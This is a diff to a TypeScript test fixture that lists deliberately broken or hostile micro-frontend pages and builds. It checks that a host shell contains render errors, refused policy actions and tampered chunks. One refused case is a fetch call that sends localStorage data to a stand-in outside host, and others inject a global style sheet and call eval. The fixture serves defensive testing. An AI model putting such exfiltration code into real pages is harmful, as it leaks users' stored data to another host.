@@ -1,3 +1,6 @@
+import type { faults } from './faults.ts'
+import type { LabBuildOptions } from './lab-remote.ts'
+
 /**
  * Code that a page runs in its component, and what follows. Each case is tried with the same three questions: do another
  * remote and the users page work in the same shell, and does the page open without a reload once it is mended?
@@ -54,6 +57,16 @@ export const loops: readonly HostilePage[] = [
     isQuick: true,
   },
   { what: 'throws undefined while it renders', code: 'throw undefined', card: 'render' },
+  {
+    what: 'renders a lazy component that never arrives',
+    code: 'globalThis.labLazy ??= React.lazy(() => new Promise(() => {})); return React.createElement(globalThis.labLazy)',
+    card: 'suspended',
+  },
+  {
+    what: 'throws in each effect',
+    code: "React.useEffect(() => { throw new Error('in each effect') })",
+    card: 'effect',
+  },
   {
     what: 'throws a promise that never settles',
     code: 'globalThis.labNever ??= new Promise(() => {}); throw globalThis.labNever',
@@ -196,5 +209,73 @@ export const leftOvers: readonly HostilePage[] = [
     what: 'throws undefined in a timer',
     code: once('setTimeout(() => { throw undefined }, 500)'),
     mark: 'timer',
+  },
+]
+
+/** Runs once the page was mounted: until then its remote counts as not working anyway, and has no mark. */
+const later = (code: string) => once(`setTimeout(() => { ${code} }, 500)`)
+
+/** What the policy of the document refuses. The page stays, and its remote is marked. */
+export const refused: readonly HostilePage[] = [
+  {
+    what: 'adds a style sheet for the whole document',
+    code: later(
+      "document.head.appendChild(Object.assign(document.createElement('style'), { textContent: 'header h1 { color: rgb(1, 2, 3) }' }))",
+    ),
+    mark: 'policy',
+    traceless: isOff("getComputedStyle(document.querySelector('header h1')).color !== 'rgb(1, 2, 3)'"),
+    isQuick: true,
+  },
+  {
+    what: 'evaluates text',
+    code: later("try { (0, eval)('globalThis.labEvaluated = 1') } catch {}"),
+    mark: 'policy',
+    traceless: "!('labEvaluated' in globalThis)",
+  },
+  {
+    what: 'sends what it read to another host',
+    code: later("fetch('https://elsewhere.example/?' + localStorage.length).catch(() => {})"),
+    mark: 'policy',
+  },
+]
+
+/** A build that is wrong before its page can be rendered. */
+export interface HostileBuild {
+  readonly what: string
+  readonly options?: LabBuildOptions
+  /** A file of the build, and what is wrong with it on its way. */
+  readonly fault?: readonly [string, keyof typeof faults]
+  readonly card: string
+  readonly isQuick?: boolean
+}
+
+export const wrongBuilds: readonly HostileBuild[] = [
+  {
+    what: 'page chunk was changed on its way',
+    fault: ['page.js', 'tampered'],
+    card: 'integrity',
+    isQuick: true,
+  },
+  { what: 'style sheet was changed on its way', fault: ['page.css', 'tampered'], card: 'integrity' },
+  {
+    what: 'manifest was changed on its way',
+    fault: ['mf-manifest.json', 'tampered'],
+    card: 'manifest-invalid',
+  },
+  { what: 'manifest is the page of a login', fault: ['mf-manifest.json', 'html'], card: 'manifest-invalid' },
+  { what: 'manifest is other JSON', fault: ['mf-manifest.json', 'otherJson'], card: 'manifest-invalid' },
+  { what: 'page chunk is missing', fault: ['page.js', 'missing'], card: 'chunk' },
+  { what: 'entry is no JavaScript', options: { throws: 'syntax' }, card: 'entry' },
+  { what: 'page throws while it is evaluated', options: { throws: 'module' }, card: 'module', isQuick: true },
+  { what: 'page chunk has no digest', options: { fileWithoutDigest: 'page.js' }, card: 'no-digest' },
+  {
+    what: 'contract is of another platform',
+    options: { entryOverrides: { contract: '^2.0' } },
+    card: 'contract',
+  },
+  {
+    what: 'React is of another major version',
+    options: { entryOverrides: { needs: { react: '^18.3.1' } } },
+    card: 'shared-range',
   },
 ]
